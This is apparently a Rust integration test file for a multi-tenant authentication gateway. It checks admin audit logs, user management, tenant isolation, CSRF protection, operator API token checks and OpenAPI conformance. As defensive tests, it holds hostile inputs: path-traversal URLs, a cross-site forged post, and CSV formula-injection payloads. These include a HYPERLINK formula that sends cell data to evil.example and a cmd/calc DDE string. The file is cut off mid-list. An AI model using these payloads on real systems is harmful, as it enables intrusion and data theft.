//! Tenant admin pages and the operator API (issue 7, items 3, 4 and 5): a tenant admin reads
//! their own audit log (HTML, JSON, CSV) with filters and paging and manages their users;
//! nothing of another tenant is reachable by id, parameter, path trick or cookie; non-admins
//! get 403; every admin action is audited; the operator API wants its bearer token, each route
//! works, and `docs/openapi.json` describes exactly the routes served.

#[path = "common/admin.rs"]
mod admin_support;
mod common;

use std::time::Duration;

use admin_support::*;
use common::*;

/// Every event in a JSON page belongs to `tenant`.
fn all_of_tenant(events: &[serde_json::Value], tenant: &str) -> bool {
    events.iter().all(|e| e["tenant"] == tenant)
}

fn events_of(resp: &Response) -> Vec<serde_json::Value> {
    resp.json()["events"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// The tenant admin's own log as JSON (up to 1000 records) with `query` filters.
async fn own_events(gw: &Gateway, session: &str, query: &str) -> Vec<serde_json::Value> {
    let path = format!("/.auth/admin/audit?limit=1000&{query}");
    let resp = get_json(gw, ACME, &path, Some(session)).await;
    assert_eq!(resp.status, 200, "{query}: {}", resp.text());
    events_of(&resp)
}

#[tokio::test]
async fn tenant_admin_reads_own_audit_log_as_html_json_and_csv() {
    let gw = world();
    // Events in both tenants: failed and successful sign-ins.
    let wrong = gw
        .login_json(ACME, "bob", "not-bobs-password-at-all", None)
        .await;
    assert_eq!(wrong.status, 401);
    gw.login(ACME, "bob", BOB_PW).await;
    let wrong = gw
        .login_json(GLOBEX, "dave", "not-daves-password-at-all", None)
        .await;
    assert_eq!(wrong.status, 401);
    let (alice, _) = sign_in(&gw, ACME, "alice", ALICE_PW).await;

    let mut browser = gw.browser(ACME);
    browser.set_cookie(SESSION_COOKIE, &alice);
    let html = browser.get("/.auth/admin/audit").await;
    assert_eq!(html.status, 200, "{}", html.text());
    assert!(html
        .header("content-type")
        .is_some_and(|c| c.starts_with("text/html")));
    assert!(html.header("content-security-policy").is_some());
    let page = html.text();
    assert!(page.contains("<td>login_failed</td>"), "{page}");
    assert!(page.contains("<td>bob</td>"), "{page}");
    assert!(
        !page.contains("dave"),
        "another tenant's events on the page:\n{page}"
    );

    let json = get_json(&gw, ACME, "/.auth/admin/audit", Some(&alice)).await;
    assert_eq!(json.status, 200, "{}", json.text());
    let events = events_of(&json);
    assert!(all_of_tenant(&events, "acme"), "{events:?}");
    assert!(events.iter().any(|e| e["event"] == "login_failed"
        && e["subject"] == "bob"
        && e["reason"] == "bad_password"));
    assert!(events
        .iter()
        .any(|e| e["event"] == "login_succeeded" && e["subject"] == "alice"));
    assert!(json.json()["next_before"].is_null(), "one page only");
    let seqs: Vec<u64> = events.iter().filter_map(|e| e["seq"].as_u64()).collect();
    assert!(
        seqs.windows(2).all(|w| w[0] > w[1]),
        "newest first: {seqs:?}"
    );
    let also_json = gw
        .get_as(ACME, "/.auth/admin/audit?format=json", Some(&alice), &[])
        .await;
    assert_eq!(also_json.status, 200);
    assert!(also_json.json()["events"].is_array());

    let csv = gw
        .get_as(ACME, "/.auth/admin/audit?format=csv", Some(&alice), &[])
        .await;
    assert_eq!(csv.status, 200, "{}", csv.text());
    assert!(csv
        .header("content-type")
        .is_some_and(|c| c.starts_with("text/csv")));
    assert!(csv
        .header("content-disposition")
        .is_some_and(|c| c.starts_with("attachment")));
    let rows = parse_csv(&csv.text());
    assert_eq!(
        rows[0],
        [
            "seq",
            "time",
            "tenant",
            "event",
            "outcome",
            "actor",
            "subject",
            "client_ip",
            "user_agent",
            "request_id",
            "reason",
            "hash"
        ]
    );
    assert!(
        rows.len() > events.len(),
        "every record (and the audit reads since)"
    );
    assert!(rows[1..].iter().all(|r| r.len() == 12 && r[2] == "acme"));
    assert!(rows[1..]
        .iter()
        .any(|r| r[3] == "login_failed" && r[6] == "bob" && r[10] == "bad_password"));
    let text = csv.text();
    for secret in [ALICE_PW, BOB_PW, "not-bobs-password-at-all", alice.as_str()] {
        assert!(!text.contains(secret), "a secret in the audit export");
    }
}

#[tokio::test]
async fn audit_filters_and_paging_work() {
    let gw = world();
    let (bob, _) = sign_in(&gw, ACME, "bob", BOB_PW).await;
    // 55 refused admin requests by a non-admin: 55 request_denied events about bob.
    for _ in 0..55 {
        let resp = get_json(&gw, ACME, "/.auth/admin/audit", Some(&bob)).await;
        assert_eq!(resp.status, 403);
    }
    let (alice, _) = sign_in(&gw, ACME, "alice", ALICE_PW).await;

    // JSON pages of 20 by event type: newest first, no overlap, all there.
    let mut seen: Vec<u64> = Vec::new();
    let mut before = String::new();
    let mut pages = 0;
    loop {
        let resp = get_json(
            &gw,
            ACME,
            &format!("/.auth/admin/audit?event=request_denied&limit=20{before}"),
            Some(&alice),
        )
        .await;
        assert_eq!(resp.status, 200, "{}", resp.text());
        let body = resp.json();
        let events = events_of(&resp);
        assert!(events.len() <= 20);
        assert!(events.iter().all(|e| e["event"] == "request_denied"
            && e["actor"] == "bob"
            && e["reason"] == "not_tenant_admin"));
        seen.extend(events.iter().filter_map(|e| e["seq"].as_u64()));
        pages += 1;
        match body["next_before"].as_u64() {
            Some(n) => before = format!("&before={n}"),
            None => break,
        }
        assert!(pages < 10, "paging does not end");
    }
    assert_eq!(seen.len(), 55, "{seen:?}");
    assert_eq!(pages, 3);
    assert!(seen.windows(2).all(|w| w[0] > w[1]), "{seen:?}");

    // HTML: 50 rows, then a link to the older ones with the filters kept.
    let html = gw
        .get_as(
            ACME,
            "/.auth/admin/audit?event=request_denied",
            Some(&alice),
            &[],
        )
        .await
        .text();
    assert_eq!(html.matches("<td>request_denied</td>").count(), 50);
    let href = html
        .split("href=\"")
        .filter_map(|s| s.split('"').next())
        .find(|h| h.contains("before="))
        .expect("a link to older events")
        .replace("&amp;", "&");
    assert!(href.contains("event=request_denied"), "{href}");
    let older = gw.get_as(ACME, &href, Some(&alice), &[]).await.text();
    assert_eq!(older.matches("<td>request_denied</td>").count(), 5);
    assert!(!older.contains("Older events"));

    // User filter: actor or subject.
    let bobs = own_events(&gw, &alice, "user=bob").await;
    assert!(bobs.len() >= 56, "55 denials and a sign-in: {}", bobs.len());
    assert!(bobs
        .iter()
        .all(|e| e["actor"] == "bob" || e["subject"] == "bob"));
    let alices = own_events(&gw, &alice, "user=alice").await;
    assert!(!alices.is_empty());
    assert!(alices
        .iter()
        .all(|e| e["actor"] == "alice" || e["subject"] == "alice"));

    // Time range: relative and RFC 3339.
    let everything = own_events(&gw, &alice, "").await.len();
    assert!(everything >= 57, "{everything}");
    assert!(own_events(&gw, &alice, "since=24h").await.len() >= everything);
    assert!(
        own_events(&gw, &alice, "until=1h").await.is_empty(),
        "nothing older than an hour"
    );
    assert!(own_events(&gw, &alice, "since=2999-01-01T00:00:00Z")
        .await
        .is_empty());
    assert!(own_events(&gw, &alice, "until=2000-01-01").await.is_empty());
    assert!(
        own_events(&gw, &alice, "since=2000-01-01T00:00:00%2B02:00")
            .await
            .len()
            >= everything
    );

    // Unreadable filters: 400 with the reason, never a silently unfiltered log.
    for (query, code) in [
        ("since=yesterday", "bad_since"),
        ("event=LoginFailed", "unknown_event"),
        ("before=abc", "bad_before"),
    ] {
        let resp = get_json(
            &gw,
            ACME,
            &format!("/.auth/admin/audit?{query}"),
            Some(&alice),
        )
        .await;
        assert_eq!(resp.status, 400, "{query}");
        assert_eq!(resp.json()["error"], code, "{query}");
    }
    let page = gw
        .get_as(
            ACME,
            "/.auth/admin/audit?since=yesterday",
            Some(&alice),
            &[],
        )
        .await;
    assert_eq!(page.status, 400);
    assert!(page.text().contains("role=\"alert\""));
}

#[tokio::test]
async fn tenant_admin_cannot_read_or_change_another_tenant() {
    let gw = world();
    let wrong = gw
        .login_json(GLOBEX, "dave", "not-daves-password-at-all", None)
        .await;
    assert_eq!(wrong.status, 401);
    let (alice, csrf) = sign_in(&gw, ACME, "alice", ALICE_PW).await;
    let (dave, _) = sign_in(&gw, GLOBEX, "dave", DAVE_PW).await;

    // By query parameter and spoofed header: still only acme's log.
    for path in [
        "/.auth/admin/audit?tenant=globex",
        "/.auth/admin/audit?tenant=globex&user=dave",
        "/.auth/admin/audit?format=json&tenant=globex&tenant_id=globex",
    ] {
        let resp = gw
            .get_as(
                ACME,
                path,
                Some(&alice),
                &[
                    ("accept", "application/json"),
                    ("x-portcullis-tenant", "globex"),
                ],
            )
            .await;
        assert_eq!(resp.status, 200, "{path}: {}", resp.text());
        let events = events_of(&resp);
        assert!(all_of_tenant(&events, "acme"), "{path}: {events:?}");
        assert!(!resp.text().contains("dave"), "{path}: {}", resp.text());
    }
    let csv = gw
        .get_as(
            ACME,
            "/.auth/admin/audit?format=csv&tenant=globex",
            Some(&alice),
            &[],
        )
        .await
        .text();
    assert!(!csv.contains("globex") && !csv.contains("dave"), "{csv}");
    let users = get_json(&gw, ACME, "/.auth/admin/users?tenant=globex", Some(&alice)).await;
    let names: Vec<String> = users.json()["users"]
        .as_array()
        .expect("users")
        .iter()
        .filter_map(|u| u["username"].as_str().map(str::to_string))
        .collect();
    assert_eq!(names, ["alice", "bob"]);

    // By id: globex's users are unknown in acme.
    for user in ["dave", "carol", "dave@globex", "globex:dave"] {
        let path = format!("/.auth/admin/users/{}/disable", query_encode(user));
        let resp = post_json(&gw, ACME, &path, Some(&alice), Some(&csrf), &[]).await;
        assert_eq!(resp.status, 404, "{path}: {}", resp.text());
        assert_eq!(resp.json()["error"], "unknown_user");
    }
    // By path tricks: refused before or at the admin pages, never reaching globex.
    for target in [
        "/.auth/admin/users/..%2Fglobex%2Fdave/disable",
        "/.auth/admin/users/..%2fglobex/users/dave/disable",
        "/.auth/admin/users/%2e%2e/%2e%2e/globex/users/dave/disable",
        "/.auth/admin/../admin/users/dave/disable",
        "/.auth/admin/users/dave%00/disable",
        "/.auth/admin/users/dave%2F/disable",
        "/.auth/admin/users/%64ave/disable",
        "https://globex.localhost/.auth/admin/users/dave/disable",
    ] {
        let cookie = format!("Cookie: {SESSION_COOKIE}={alice}");
        let token = format!("X-CSRF-Token: {csrf}");
        let req = request_bytes(
            "POST",
            target,
            ACME,
            &[
                &cookie,
                &token,
                "Accept: application/json",
                "Content-Length: 0",
            ],
            b"",
        );
        let resp = gw.raw(ACME, &req).await.single();
        assert!(
            [400, 404, 421].contains(&resp.status),
            "{target}: {} {}",
            resp.status,
            resp.text()
        );
    }
    // With the acme admin's cookie on globex's host: no session there.
    let on_globex = get_json(&gw, GLOBEX, "/.auth/admin/audit", Some(&alice)).await;
    assert_eq!(on_globex.status, 401, "{}", on_globex.text());
    let browser = gw
        .get_as(
            GLOBEX,
            "/.auth/admin/users",
            Some(&alice),
            &[("accept", "text/html")],
        )
        .await;
    assert!(
        is_browser_login_challenge(browser.status, browser.location(), GLOBEX),
        "{} {:?}",
        browser.status,
        browser.location()
    );
    let post = post_json(
        &gw,
        GLOBEX,
        "/.auth/admin/users/dave/disable",
        Some(&alice),
        Some(&csrf),
        &[],
    )
    .await;
    assert_eq!(post.status, 401, "{}", post.text());

    // Nothing happened to globex: dave's session lives, no admin event there.
    assert_eq!(gw.whoami(GLOBEX, &dave).await.status, 200);
    gw.login(GLOBEX, "dave", DAVE_PW).await;
    let globex = operator_events(&gw, "tenant=globex&limit=1000");
    assert!(
        globex.iter().all(|e| e["event"] != "user_disabled"
            && e["event"] != "session_revoked"
            && e["actor"] != "alice"),
        "{globex:?}"
    );
}

#[tokio::test]
async fn non_admins_get_403_and_strangers_are_sent_to_sign_in() {
    let gw = world();
    let (bob, csrf) = sign_in(&gw, ACME, "bob", BOB_PW).await;
    let csv = gw
        .get_as(ACME, "/.auth/admin/audit?format=csv", Some(&bob), &[])
        .await;
    assert_eq!(csv.status, 403, "{}", csv.text());
    for path in [
        "/.auth/admin",
        "/.auth/admin/audit",
        "/.auth/admin/users",
        "/.auth/admin/saml",
        "/.auth/admin/nothing-here",
    ] {
        let page = gw
            .get_as(ACME, path, Some(&bob), &[("accept", "text/html")])
            .await;
        assert_eq!(page.status, 403, "{path}: {}", page.text());
        assert!(page.text().contains("<h1>Forbidden</h1>"), "{path}");
        let json = get_json(&gw, ACME, path, Some(&bob)).await;
        assert_eq!(json.status, 403, "{path}");
        assert_eq!(json.json()["error"], "forbidden", "{path}");
    }
    let act = post_json(
        &gw,
        ACME,
        "/.auth/admin/users/alice/disable",
        Some(&bob),
        Some(&csrf),
        &[],
    )
    .await;
    assert_eq!(act.status, 403, "{}", act.text());
    gw.login(ACME, "alice", ALICE_PW).await;

    // Not signed in: browsers go to the sign-in page, API clients get 401.
    for path in [
        "/.auth/admin/audit",
        "/.auth/admin/users",
        "/.auth/admin/saml",
    ] {
        let page = gw
            .get_as(ACME, path, None, &[("accept", "text/html")])
            .await;
        assert_eq!(page.status, 302, "{path}");
        assert!(
            page.location()
                .is_some_and(|l| l.starts_with("/.auth/login?return_to=")),
            "{path}: {:?}",
            page.location()
        );
        let json = get_json(&gw, ACME, path, None).await;
        assert_eq!(json.status, 401, "{path}");
        assert_eq!(json.json()["error"], "unauthenticated");
    }
    let anon = post_json(&gw, ACME, "/.auth/admin/users/bob/disable", None, None, &[]).await;
    assert_eq!(anon.status, 401);

    // The refusals are audited as access denied, with who and where.
    let denied = wait_events(&gw, "tenant=acme&event=request_denied&user=bob", 12);
    assert_eq!(denied.len(), 12, "{denied:?}");
    assert!(denied
        .iter()
        .all(|e| e["reason"] == "not_tenant_admin" && e["outcome"] == "denied"));
    assert!(denied
        .iter()
        .any(|e| e["subject"] == "/.auth/admin/users/alice/disable"));
}

#[tokio::test]
async fn saml_page_says_saml_is_not_configured() {
    let gw = world();
    let (alice, _) = sign_in(&gw, ACME, "alice", ALICE_PW).await;
    let page = gw
        .get_as(
            ACME,
            "/.auth/admin/saml",
            Some(&alice),
            &[("accept", "text/html")],
        )
        .await;
    assert_eq!(page.status, 200);
    assert!(page.text().contains("not configured"), "{}", page.text());
    let json = get_json(&gw, ACME, "/.auth/admin/saml", Some(&alice)).await;
    assert_eq!(json.json()["configured"], false);
    let post = post_json(&gw, ACME, "/.auth/admin/saml", Some(&alice), None, &[]).await;
    assert_eq!(post.status, 405);
}

#[tokio::test]
async fn each_admin_action_is_audited_with_the_admin_as_actor() {
    let gw = world();
    let bob = gw.login(ACME, "bob", BOB_PW).await;
    let bob = enroll_totp(&gw, ACME, &bob).await;
    assert_eq!(gw.whoami(ACME, &bob).await.status, 200);

    // The admin's browser: the users page with its forms.
    let mut browser = gw.browser(ACME);
    let signed_in = browser.login("alice", ALICE_PW, "/").await;
    assert_eq!(signed_in.status, 303, "{}", signed_in.text());
    let page = browser.get("/.auth/admin/users").await;
    assert_eq!(page.status, 200, "{}", page.text());
    let html = page.text();
    let csrf = form_field(&html, "csrf").expect("csrf on the users page");
    assert!(html.contains("/.auth/admin/users/bob/reset-mfa"), "{html}");
    assert!(
        html.contains("/.auth/admin/users/bob/revoke-sessions"),
        "{html}"
    );
    assert!(
        !html.contains("/.auth/admin/users/alice/disable"),
        "no disabling oneself"
    );
    let listed = get_json(&gw, ACME, "/.auth/admin/users", browser.session()).await;
    let bob_row = listed.json()["users"]
        .as_array()
        .and_then(|u| u.iter().find(|u| u["username"] == "bob").cloned())
        .expect("bob listed");
    assert_eq!(bob_row["mfa"], true, "{bob_row}");
    assert_eq!(bob_row["sessions"], 1, "{bob_row}");
    assert!(bob_row.get("password_hash").is_none());

    // CSRF: without the token, or from another origin, nothing happens.
    let forged = browser
        .post_form(
            "/.auth/admin/users/bob/revoke-sessions",
            &[("csrf", "wrong")],
        )
        .await;
    assert_eq!(forged.status, 403);
    let cross = browser
        .post(
            "/.auth/admin/users/bob/revoke-sessions",
            "application/x-www-form-urlencoded",
            form_body(&[("csrf", &csrf)]),
            &[
                ("origin", "https://evil.example"),
                ("sec-fetch-site", "cross-site"),
            ],
        )
        .await;
    assert_eq!(cross.status, 403);
    assert_eq!(
        gw.whoami(ACME, &bob).await.status,
        200,
        "forged posts changed nothing"
    );

    // Revoke sessions.
    let done = browser
        .post_form("/.auth/admin/users/bob/revoke-sessions", &[("csrf", &csrf)])
        .await;
    assert_eq!(done.status, 303, "{}", done.text());
    assert!(done
        .location()
        .is_some_and(|l| l.starts_with("/.auth/admin/users")));
    assert!(
        gw.wait_session_ended(ACME, &bob, Duration::from_secs(3))
            .await
    );
    let notice = browser.get(done.location().unwrap_or("/")).await.text();
    assert!(notice.contains("Done: revoke-sessions bob."), "{notice}");

    // Reset MFA: bob signs in with the password alone again.
    let done = browser
        .post_form("/.auth/admin/users/bob/reset-mfa", &[("csrf", &csrf)])
        .await;
    assert_eq!(done.status, 303, "{}", done.text());
    let login = gw.login_json(ACME, "bob", BOB_PW, None).await;
    assert_eq!(login.json()["next"], "done", "{}", login.text());

    // Disable (JSON, CSRF in the header), then enable.
    let session = browser.session().expect("alice's session").to_string();
    let disabled = post_json(
        &gw,
        ACME,
        "/.auth/admin/users/bob/disable",
        Some(&session),
        Some(&csrf),
        &[],
    )
    .await;
    assert_eq!(disabled.status, 200, "{}", disabled.text());
    assert_eq!(disabled.json()["changed"], true);
    assert_eq!(disabled.json()["sessions_ended"], 1);
    assert_eq!(gw.login_json(ACME, "bob", BOB_PW, None).await.status, 401);
    let enabled = post_json(
        &gw,
        ACME,
        "/.auth/admin/users/bob/enable",
        Some(&session),
        Some(&csrf),
        &[],
    )
    .await;
    assert_eq!(enabled.status, 200, "{}", enabled.text());
    gw.login(ACME, "bob", BOB_PW).await;

    // Refused: oneself, unknown users.
    let own = post_json(
        &gw,
        ACME,
        "/.auth/admin/users/alice/disable",
        Some(&session),
        Some(&csrf),
        &[],
    )
    .await;
    assert_eq!(own.status, 409);
    let nobody = post_json(
        &gw,
        ACME,
        "/.auth/admin/users/nobody/enable",
        Some(&session),
        Some(&csrf),
        &[],
    )
    .await;
    assert_eq!(nobody.status, 404);
    let get = get_json(&gw, ACME, "/.auth/admin/users/bob/disable", Some(&session)).await;
    assert_eq!(get.status, 405);

    // One event per action, the admin as actor, bob as subject, from the admin's client.
    for (event, reason) in [
        ("session_revoked", "tenant_admin"),
        ("mfa_reset", "tenant_admin"),
        ("user_disabled", "tenant_admin"),
        ("user_enabled", "tenant_admin"),
        ("session_revoked", "user_disabled"),
    ] {
        let found = wait_events(&gw, &format!("tenant=acme&event={event}&user=alice"), 1);
        assert!(
            found.iter().any(|e| e["actor"] == "alice"
                && e["subject"] == "bob"
                && e["reason"] == reason
                && e["client_ip"] == "127.0.0.1"),
            "{event}/{reason}: {found:?}"
        );
    }
    let csrf_denials = operator_events(&gw, "tenant=acme&event=request_denied&user=alice");
    assert_eq!(
        csrf_denials
            .iter()
            .filter(|e| e["reason"] == "csrf")
            .count(),
        2,
        "{csrf_denials:?}"
    );
    // The admin reads the same through their own log.
    let own_log = get_json(
        &gw,
        ACME,
        "/.auth/admin/audit?event=mfa_reset",
        Some(&session),
    )
    .await;
    assert_eq!(events_of(&own_log).len(), 1, "{}", own_log.text());
}

#[tokio::test]
async fn csv_export_defuses_formula_injection() {
    let gw = world();
    let evil_user = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let resp = gw
        .client()
        .post(gw.url(ACME, "/.auth/login"))
        .header("content-type", "application/json")
        .header("accept", "application/json")
        .header("user-agent", "@SUM(1+1)*cmd|' /C calc'!A0")
        .body(serde_json::json!({ "username": evil_user, "password": "-2+3 wrong" }).to_string())
        .send()
        .await
        .expect("login");
    assert_eq!(resp.status(), 401);
    let bad = gw
        .client()
        .post(gw.url(ACME, "/.auth/login"))
        .header("content-type", "application/json")
        .header("user-agent", "+1 spreadsheet")
        .body(serde_json::json!({ "username": "-bob", "password": "x" }).to_string())
        .send()
        .await
        .expect("login");
    assert_eq!(bad.status(), 401);
    let (alice, _) = sign_in(&gw, ACME, "alice", ALICE_PW).await;

    let csv = gw
        .get_as(
            ACME,
            "/.auth/admin/audit?format=csv&event=login_failed",
            Some(&alice),
            &[],
        )
        .await;
    assert_eq!(csv.status, 200);
    let text = csv.text();
    let rows = parse_csv(&text);
    assert_eq!(rows.len(), 3, "{text}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}\n{text}"
            );
        }
    }
    assert!(
        rows.iter().any(|r| r[6] == format!("'{evil_user}")),
        "{text}"
    );
    assert!(
        rows.iter().any(|r| r[8] == "'@SUM(1+1)*cmd|' /C calc'!A0"),
        "{text}"
    );
    assert!(
        rows.iter()
            .any(|r| r[6] == "'-bob" && r[8] == "'+1 spreadsheet"),
        "{text}"
    );
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""),
        "quotes doubled inside a quoted cell:\n{text}"
    );
    assert!(!text.contains("-2+3 wrong"), "no password in the audit log");
}

#[test]
fn operator_api_requires_the_bearer_token() {
    let gw = world();
    let doc = openapi_document();
    let token = token(&gw);
    let paths = doc["paths"].as_object().expect("paths");
    for (template, item) in paths {
        let path = template
            .replace("{tenant}", "acme")
            .replace("{user}", "bob");
        for method in ["get", "post", "delete"] {
            let Some(op) = item.get(method) else { continue };
            let open = op["security"].as_array().is_some_and(|s| s.is_empty());
            let upper = method.to_ascii_uppercase();
            let anonymous = operator_raw(&gw, &upper, &path, None);
            if open {
                assert_eq!(anonymous.status, 200, "{upper} {path} is public");
                continue;
            }
            for auth in [
                None,
                Some("Bearer not-the-token".to_string()),
                Some(format!("Basic {token}")),
                Some(format!("Bearer {token}x")),
                Some(format!("bearer{token}")),
            ] {
                let resp = operator_raw(&gw, &upper, &path, auth.as_deref());
                assert_eq!(
                    resp.status,
                    401,
                    "{upper} {path} with {auth:?}: {}",
                    resp.text()
                );
                assert_eq!(resp.header("www-authenticate"), Some("Bearer"));
                assert_eq!(resp.json()["error"], "unauthorized");
            }
        }
    }
    // Refused calls changed nothing.
    let users = operator(&gw, "GET", "/v1/tenants/acme/users");
    assert_eq!(users.status, 200);
    assert!(operator_events(&gw, "event=config_reload_requested").is_empty());
}

#[tokio::test]
async fn operator_api_routes_work_and_are_audited() {
    let gw = world();
    let (alice, _) = sign_in(&gw, ACME, "alice", ALICE_PW).await;
    let second = gw.login(ACME, "alice", ALICE_PW).await;
    gw.login(GLOBEX, "carol", CAROL_PW).await;

    // Tenants.
    let tenants = operator(&gw, "GET", "/v1/tenants");
    assert_eq!(tenants.status, 200);
    let ids: Vec<String> = tenants.json()["tenants"]
        .as_array()
        .expect("tenants")
        .iter()
        .filter_map(|t| t["id"].as_str().map(str::to_string))
        .collect();
    assert_eq!(ids, ["acme", "globex"]);
    assert_eq!(tenants.json()["tenants"][0]["audit_retention_days"], 90);

    // Users with session counts; nothing secret.
    let users = operator(&gw, "GET", "/v1/tenants/acme/users");
    assert_eq!(users.status, 200, "{}", users.text());
    let body = users.json();
    assert_eq!(body["tenant"], "acme");
    let alice_row = body["users"]
        .as_array()
        .and_then(|u| u.iter().find(|u| u["username"] == "alice").cloned())
        .expect("alice");
    assert_eq!(alice_row["sessions"], 2);
    assert_eq!(alice_row["roles"], serde_json::json!(["admin"]));
    assert!(!users.text().contains("argon2"), "{}", users.text());
    assert_eq!(operator(&gw, "GET", "/v1/tenants/nope/users").status, 404);

    // Sessions: listed without token hash or CSRF token, then revoked.
    let sessions = operator(&gw, "GET", "/v1/tenants/acme/users/alice/sessions");
    assert_eq!(sessions.status, 200, "{}", sessions.text());
    let list = sessions.json()["sessions"]
        .as_array()
        .cloned()
        .expect("sessions");
    assert_eq!(list.len(), 2);
    assert!(list.iter().all(|s| s["stage"] == "active"));
    let csrf = csrf_of(&gw, ACME, &alice).await;
    for secret in [alice.as_str(), second.as_str(), csrf.as_str()] {
        assert!(
            !sessions.text().contains(secret),
            "a credential in the listing"
        );
    }
    assert_eq!(
        operator(&gw, "GET", "/v1/tenants/acme/users/nobody/sessions").status,
        404
    );
    assert_eq!(
        operator(&gw, "GET", "/v1/tenants/acme/users/bad%20name/sessions").status,
        400
    );
    assert_eq!(
        operator(&gw, "GET", "/v1/tenants/globex/users/alice/sessions").status,
        404,
        "acme's alice is not globex's"
    );
    let revoked = operator(&gw, "DELETE", "/v1/tenants/acme/users/alice/sessions");
    assert_eq!(revoked.status, 200, "{}", revoked.text());
    assert_eq!(revoked.json()["sessions_ended"], 2);
    assert!(
        gw.wait_session_ended(ACME, &alice, Duration::from_secs(3))
            .await
    );
    assert!(
        gw.wait_session_ended(ACME, &second, Duration::from_secs(3))
            .await
    );

    // MFA reset.
    let bob = gw.login(ACME, "bob", BOB_PW).await;
    enroll_totp(&gw, ACME, &bob).await;
    let reset = operator(&gw, "POST", "/v1/tenants/acme/users/bob/reset-mfa");
    assert_eq!(reset.status, 200, "{}", reset.text());
    assert_eq!(reset.json()["changed"], true);
    assert_eq!(
        gw.login_json(ACME, "bob", BOB_PW, None).await.json()["next"],
        "done"
    );
    assert_eq!(
        operator(&gw, "POST", "/v1/tenants/acme/users/nobody/reset-mfa").status,
        404
    );

    // Unlock (the name need not exist; it is decoded from the path).
    let unlock = operator(&gw, "POST", "/v1/tenants/acme/users/bob%40corp/unlock");
    assert_eq!(unlock.status, 200, "{}", unlock.text());
    assert_eq!(unlock.json()["was_locked"], false);

    // Reload: requested, then applied by the reloader.
    let reload = operator(&gw, "POST", "/v1/reload");
    assert_eq!(reload.status, 202, "{}", reload.text());
    assert_eq!(reload.json()["reload"], "requested");
    let applied = wait_events(&gw, "tenant=_operator&event=config_reloaded", 1);
    assert!(
        !applied.is_empty(),
        "no config_reloaded after POST /v1/reload"
    );

    // Every action audited with actor operator-api.
    for (tenant, event, subject) in [
        ("acme", "session_revoked", Some("alice")),
        ("acme", "mfa_reset", Some("bob")),
        ("acme", "session_revoked", Some("bob")),
        ("acme", "account_unlocked", Some("bob@corp")),
        ("_operator", "config_reload_requested", None),
    ] {
        let found = wait_events(
            &gw,
            &format!("tenant={tenant}&event={event}&user=operator-api"),
            1,
        );
        assert!(
            found.iter().any(|e| e["actor"] == "operator-api"
                && subject.is_none_or(|s| e["subject"] == s)
                && e["client_ip"] == "127.0.0.1"),
            "{tenant}/{event}: {found:?}"
        );
    }

    // Audit across tenants, one tenant, paging by position.
    let all = operator_events(&gw, "limit=1000");
    for tenant in ["acme", "globex", "_operator"] {
        assert!(
            all.iter().any(|e| e["tenant"] == tenant),
            "{tenant} missing"
        );
    }
    let positions: Vec<u64> = all.iter().filter_map(|e| e["position"].as_u64()).collect();
    assert!(positions.windows(2).all(|w| w[0] > w[1]), "{positions:?}");
    let globex = operator_events(&gw, "tenant=globex&limit=1000");
    assert!(!globex.is_empty() && all_of_tenant(&globex, "globex"));
    let mut walked = Vec::new();
    let mut query = "limit=7".to_string();
    loop {
        let page = operator(&gw, "GET", &format!("/v1/audit?{query}"));
        assert_eq!(page.status, 200);
        let body = page.json();
        walked.extend(
            events_of(&page)
                .iter()
                .filter_map(|e| e["position"].as_u64()),
        );
        match body["next_before"].as_u64() {
            Some(n) => query = format!("limit=7&before={n}"),
            None => break,
        }
    }
    // Records stored after the first listing are newer: leave them out.
    let top = positions.first().copied().unwrap_or(0);
    walked.retain(|p| *p <= top);
    assert_eq!(walked, positions, "pages of 7 cover the log exactly once");
    let filtered = operator_events(&gw, "event=login_succeeded&user=carol&since=1h");
    assert!(!filtered.is_empty());
    assert!(filtered
        .iter()
        .all(|e| e["tenant"] == "globex" && e["event"] == "login_succeeded"));
    assert_eq!(operator(&gw, "GET", "/v1/audit?tenant=nope").status, 404);
    let bad = operator(&gw, "GET", "/v1/audit?since=soon");
    assert_eq!(bad.status, 400);
    assert_eq!(bad.json()["error"], "bad_since");
}

#[test]
fn openapi_document_matches_the_served_routes() {
    let gw = world();
    let doc = openapi_document();
    assert!(doc["openapi"]
        .as_str()
        .is_some_and(|v| v.starts_with("3.0")));

    // The served document is the checked-in one.
    let served = operator_raw(&gw, "GET", "/v1/openapi.json", None);
    assert_eq!(served.status, 200);
    assert!(served
        .header("content-type")
        .is_some_and(|c| c.starts_with("application/json")));
    assert_eq!(served.json(), doc);

    // Every documented operation exists, answers JSON with a documented status, and its body
    // matches the documented schema; every other method on its path is 405.
    let methods = ["get", "post", "delete", "put", "patch"];
    let mut documented: Vec<(String, String)> = Vec::new();
    let paths = doc["paths"].as_object().expect("paths");
    for (template, item) in paths {
        let path = template
            .replace("{tenant}", "acme")
            .replace("{user}", "bob");
        for method in methods {
            let upper = method.to_ascii_uppercase();
            let resp = operator(&gw, &upper, &path);
            let Some(op) = item.get(method) else {
                assert_eq!(resp.status, 405, "{upper} {template} is not documented");
                assert_eq!(resp.json()["error"], "method_not_allowed");
                continue;
            };
            documented.push((upper.clone(), template.clone()));
            assert!(
                ![404, 405].contains(&resp.status),
                "{upper} {template}: {} {}",
                resp.status,
                resp.text()
            );
            let status = resp.status.to_string();
            let response = op["responses"]
                .get(&status)
                .map(|r| resolve(&doc, r))
                .unwrap_or_else(|| panic!("{upper} {template}: status {status} not documented"));
            assert!(
                resp.header("content-type")
                    .is_some_and(|c| c.starts_with("application/json")),
                "{upper} {template}: not JSON"
            );
            let schema = &response["content"]["application/json"]["schema"];
            let problems = check_schema(&doc, schema, &resp.json(), "$");
            assert!(
                problems.is_empty(),
                "{upper} {template} {status}: {problems:?}"
            );
            // Documented error answers too: an unknown tenant and user.
            if template.contains("{tenant}") {
                let unknown = template
                    .replace("{tenant}", "nope")
                    .replace("{user}", "bob");
                let resp = operator(&gw, &upper, &unknown);
                assert_eq!(resp.status, 404, "{upper} {unknown}");
                assert!(
                    op["responses"].get("404").is_some(),
                    "{upper} {template}: 404"
                );
                assert!(check_schema(
                    &doc,
                    &doc["components"]["schemas"]["Error"],
                    &resp.json(),
                    "$"
                )
                .is_empty());
            }
        }
    }
    // Every route the server answers is in the document…
    let served_routes = [
        ("GET", "/v1/openapi.json"),
